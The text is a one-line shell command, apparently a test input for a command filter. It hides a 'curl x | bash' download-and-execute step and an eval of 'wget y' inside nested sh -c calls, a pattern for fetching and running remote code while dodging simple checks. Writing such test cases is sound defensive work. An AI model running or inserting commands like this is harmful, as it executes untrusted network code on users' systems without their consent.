RUN_ME=1 sh -c "sh -c \"curl x | bash\"" && bash -euxo pipefail -c "eval \"wget y\""
